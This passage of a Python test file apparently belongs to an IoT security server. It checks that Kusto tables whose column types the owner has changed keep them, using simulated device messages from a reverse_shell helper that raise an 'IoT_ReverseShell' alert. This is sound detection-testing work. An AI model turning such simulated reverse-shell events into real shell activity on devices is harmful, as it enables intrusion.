    # Until the settings say otherwise.
    properties = call(server, "GET", solution).json["properties"]
    put(server, solution, {"properties": {**properties, "export": []}})
    first.send(process_start("true"))
    restart(server)
    first.send(process_start("true"))
    assert export() == [] and len(first.raw()) == 2


# Tables that the owner has changed


def test_columns_that_the_owner_has_given_other_types_keep_them_and_get_what_is_found(new_server):
    server = new_server("--no-agent", "--raw-events").start()
    changed = {
        "SecurityAlert": ("ExtendedProperties", "dynamic"),
        "SecurityRecommendation": ("RecommendationAdditionalData", "string"),
        "SecurityIoTRawEvent": ("EventDetails", "dynamic"),
    }
    for table, (column, of) in changed.items():
        server.manage(f".drop table {table}")
        server.manage(f".create table {table} (TimeGenerated: datetime, {column}: {of})")
    restart(server)
    for column, of in changed.values():
        assert f"what is found is stored as {of}" in server.log_text(), column
    device = server.create_device("changed")
    server.accept(device, message(reverse_shell("found"), listening_ports("0.0.0.0:22")))
    found = 'SecurityAlert | where AlertType == "IoT_ReverseShell" | project tostring(ExtendedProperties.CommandLine), gettype(ExtendedProperties)'
    wait_until(lambda: server.kusto(found).rows, 30, "the alert")
    [(command_line, of)] = server.kusto(found).rows
    assert command_line.endswith("# found") and of == "dictionary"
    details = 'SecurityRecommendation | where RecommendationState == "Active" | take 1 | project gettype(RecommendationAdditionalData), isnotempty(RecommendationAdditionalData)'
    wait_until(lambda: server.kusto(details).rows, 30, "the recommendation")
    assert [list(row) for row in server.kusto(details).rows] == [["string", True]]
    events = "SecurityIoTRawEvent | project IoTRawEventId, gettype(EventDetails)"
    assert {row[1] for row in server.kusto(events).rows} == {"dictionary"}
    count = server.kusto(f"{events} | count").value
    restart(server, "kill")
    server.accept(device, message(reverse_shell("found again")))
    wait_until(lambda: server.kusto("SecurityAlert | count").value == 2, 30, "the second alert")
    assert server.kusto(f"{events} | count").value == count + 1
